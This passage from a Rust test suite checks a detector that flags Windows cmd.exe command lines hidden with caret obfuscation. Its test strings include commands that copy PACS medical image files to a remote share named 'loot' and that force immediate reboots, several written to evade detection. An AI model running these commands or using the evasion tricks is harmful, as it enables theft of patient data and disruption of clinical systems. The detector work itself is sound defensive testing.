                "@c^all copy C:\\PACS\\*.dcm \\\\198.51.100.7\\loot",
                "if 1==1 c^all copy C:\\PACS\\*.dcm \\\\198.51.100.7\\loot",
                "call shutdown /r /t 0",
            ],
            &[false, true],
        );
        assert_clean(&["c^all the ward", "\"c^all\" copy a b", "c^^all copy a b"]);
    }

    /// Review rv44-screen (issue 10, case5): the carets cmd.exe removes before it
    /// recognises `call` it removes before every keyword: `i^f`, `f^or`, `d^o`, `e^lse`,
    /// `n^ot`, `s^et`, `g^oto` are the keywords (a doubled caret is a caret).
    #[test]
    fn carets_in_every_keyword_are_removed_before_it_is_recognised() {
        assert_alerts(
            &[
                "i^f 1==1 shutdown /r /t 0",
                "f^or %%a in (1) do shutdown /r /t 0",
                "for %%a in (1) d^o shutdown /r /t 0",
                "if 1==2 (echo) e^lse shutdown /r /t 0",
                "i^f n^ot 1==2 shutdown /r /t 0",
                "^if 1==1 shutdown /r /t 0",
                "s^et c=shutdown\r\n%c% /r /t 0",
                "goto a\r\n:b\r\n%c% /r /t 0\r\nexit /b\r\n:a\r\ns^et c=shutdown\r\ngoto b",
                "g^oto a\r\n:b\r\n%c% /r /t 0\r\nexit /b\r\n:a\r\nset c=shutdown\r\ng^oto b",
            ],
            &[false, true],
        );
        assert_clean(&[
            "i^^f 1==1 shutdown /r /t 0",
            "\"i^f\" 1==1 shutdown /r /t 0",
        ]);
    }

    /// Review rv43-screen (issue 10, case4): the command line given to `cmd /c` or `/k`
    /// in quotes is read again by the inner cmd.exe, which strips the quotes, then
    /// removes the carets: `cmd /c "s^hutdown /r /t 0"` runs `shutdown /r /t 0`.
    #[test]
    fn carets_inside_the_quotes_given_to_cmd_are_removed_by_the_inner_cmd() {
        assert_alerts(
            &[
                "cmd /c \"s^hutdown /r /t 0\"",
                "cmd /k \"s^hutdown /r /t 0\"",
                "cmd /c \"c^o^p^y C:\\PACS\\*.dcm \\\\198.51.100.7\\loot\"",
                "cmd /c \"shutdown /r /t 0\"",
                "cmd /c \"copy C:\\PACS\\*.dcm \\\\198.51.100.7\\loot\"",
            ],
            &[false, true],
        );
        assert_clean(&["cmd /c \"e^cho normal\"", "CMD /C \"E^CHO^ normal\""]);
    }
}
